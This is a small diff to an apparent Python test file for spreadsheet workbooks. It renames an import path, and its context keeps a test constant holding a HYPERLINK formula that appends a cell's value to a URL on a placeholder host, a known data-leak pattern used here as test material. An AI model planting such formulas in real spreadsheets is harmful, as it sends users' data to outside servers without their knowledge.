@@ -40,7 +40,7 @@ from tests.conftest import (
     enrol,
     indicator,
 )
-from tests.test_workbook_support import format_file, opened
+from tests.workbooks import format_file, opened
 
 _MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 LINK = '=HYPERLINK("http://x/?"&A1,"Klik")'
